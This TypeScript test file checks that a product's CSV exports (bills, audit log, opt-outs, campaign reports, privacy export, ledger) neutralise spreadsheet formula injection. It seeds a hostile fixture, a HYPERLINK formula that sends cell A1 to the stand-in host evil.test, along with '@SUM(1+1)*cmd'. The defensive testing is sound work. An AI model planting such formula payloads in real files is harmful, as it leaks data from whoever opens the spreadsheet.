import { fromCsvCell } from '@wa/contracts/csv';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvOf, customer, upload } from './test/campaign-test-kit.ts';
import { ops, OPS_TEST_ENV } from './test/ops-test-kit.ts';
import { unzip } from './test/privacy-test-kit.ts';
import { startStack, type SandboxOrg, type Stack } from './test/stack.ts';

/**
 * Every CSV the product writes is safe to open in a spreadsheet (OWASP "CSV injection"): a cell that begins with
 * =, +, -, @, a tab or a carriage return starts with an apostrophe, so it shows as text and runs nothing.
 */
const HOSTILE = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NEGATIVE_NUMBER = /^-\d+(\.\d+)?$/;

function cells(csv: string): string[][] {
  const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** No cell of the file would run as a formula; returns the cells for more specific checks. */
function expectSafe(csv: string, what: string): string[][] {
  const rows = cells(csv);
  const unsafe = rows.flat().filter((c) => FORMULA_START.test(c) && !PLAIN_NEGATIVE_NUMBER.test(c));
  expect(unsafe, `${what}: cells a spreadsheet would run`).toEqual([]);
  return rows;
}

describe('CSV exports are safe to open', () => {
  let s: Stack;
  let org: SandboxOrg;
  let owner: string;
  let numberId: string;
  let businessNumber: string;

  beforeAll(async () => {
    s = await startStack('pglite', { env: OPS_TEST_ENV });
    org = s.orgs[0]!;
    owner = await s.token(org, 'owner');
    const n = (await s.api(owner, '/api/numbers')).body.numbers[0];
    numberId = n.id;
    businessNumber = n.number;
    // What people typed can reach the exports: a charge's name, an audit event's actor and target.
    await s.database.query('update charges set name = $2 where organization_id = $1', [org.id, HOSTILE]);
    await s.database.query(
      `insert into audit_events (organization_id, actor_type, actor_id, action, target_type, target_id, metadata) values ($1, 'account', $2, 'number.revoked', 'number', $3, '{}'::jsonb)`,
      [org.id, HOSTILE, '@SUM(1+1)*cmd'],
    );
    expect((await s.api(owner, '/api/opt-outs', { method: 'POST', body: { recipient: '+48601234567', reason: HOSTILE } })).status).toBe(
      201,
    );
  });
  afterAll(async () => {
    await s?.close();
  });

  const download = async (path: string) => {
    const res = await fetch(`${s.bffUrl}${path}`, { headers: { authorization: `Bearer ${owner}` } });
    expect(res.status, path).toBe(200);
    expect(res.headers.get('content-type'), path).toContain('text/csv');
    return res.text();
  };

  it('bills: a formula in a charge name is neutralised, and the number stays readable', async () => {
    const rows = expectSafe(await download('/api/billing/charges.csv'), 'bills');
    const header = rows[0]!;
    const bill = rows.slice(1).find((r) => r[header.indexOf('description')] === `'${HOSTILE}`);
    expect(bill, 'a bill with the hostile name').toBeTruthy();
    const number = rows
      .slice(1)
      .map((r) => r[header.indexOf('number')])
      .find((c) => c);
    expect(number).toBe(`'${businessNumber}`);
    expect(fromCsvCell(number!)).toBe(businessNumber);
  });

  it("audit log: the owner's and the operators' exports neutralise an event's actor and target", async () => {
    for (const csv of [await download('/api/audit.csv'), (await ops(s, '/audit.csv')).body as string]) {
      const rows = expectSafe(csv, 'audit');
      const row = rows.find((r) => r.includes(`'${HOSTILE}`));
      expect(row, 'the hostile event').toBeTruthy();
      expect(row).toContain("'@SUM(1+1)*cmd");
    }
  });

  it('opt-outs: the streamed and the JSON-wrapped exports neutralise a reason, and importing the file restores it', async () => {
    const streamed = expectSafe(await download('/api/opt-outs.csv'), 'opt-outs.csv');
    const wrapped = await s.api(owner, '/api/opt-outs/export');
    expect(wrapped.status).toBe(200);
    const rows = expectSafe(wrapped.body.csv, 'opt-outs export');
    for (const r of [streamed, rows]) expect(r.find((x) => x.includes("'+48601234567"))).toContain(`'${HOSTILE}`);
    // The apostrophe is ours: the import takes it off again.
    await s.api(owner, '/api/opt-outs/+48601234567', { method: 'DELETE' });
    const imported = await s.api(owner, '/api/opt-outs/import', { method: 'POST', body: { csv: wrapped.body.csv } });
    expect(imported.status).toBe(200);
    const list = await s.api(owner, '/api/opt-outs?q=601234567');
    expect(list.body.optOuts.find((o: { recipient: string }) => o.recipient === '+48601234567')).toMatchObject({ reason: HOSTILE });
  });

  it("campaigns: rejected rows neutralise the file's own cell; the report keeps numbers readable", async () => {
    const good = customer();
    const created = await upload(
      s,
      owner,
      { numberId },
      csvOf([
        [good, 'Al', '1'],
        [HOSTILE, 'Bo', '2'],
        ['-1+2', 'Cy', '3'],
      ]),
    );
    expect(created.status).toBe(201);
    const id = created.body.campaign.id as string;
    const rejected = expectSafe(await download(`/api/campaigns/${id}/rejected.csv`), 'rejected rows');
    expect(rejected.map((r) => r[1])).toEqual(expect.arrayContaining([`'${HOSTILE}`, "'-1+2"]));
    const report = expectSafe(await download(`/api/campaigns/${id}/report.csv`), 'campaign report');
    expect(report.map((r) => r[1])).toContain(`'${good}`);
  });

  it("the data export: every table's CSV neutralises its cells", async () => {
    const res = await fetch(`${s.bffUrl}/api/privacy/export.zip`, { headers: { authorization: `Bearer ${owner}` } });
    expect(res.status).toBe(200);
    const files = await unzip(Buffer.from(await res.arrayBuffer()));
    const csvs = [...files.keys()].filter((f) => f.endsWith('.csv'));
    expect(csvs.length).toBeGreaterThan(10);
    for (const f of csvs) expectSafe(files.get(f)!, f);
    expect(cells(files.get('opt_outs.csv')!).flat()).toContain(`'${HOSTILE}`);
    expect(cells(files.get('audit_events.csv')!).flat()).toContain(`'${HOSTILE}`);
    expect(cells(files.get('charges.csv')!).flat()).toContain(`'${HOSTILE}`);
  });

  it('the ledger: negative amounts stay numbers, nothing else can run', async () => {
    const rows = expectSafe(await download('/api/ledger.csv'), 'ledger');
    expect(rows.length).toBeGreaterThan(1);
  });
});
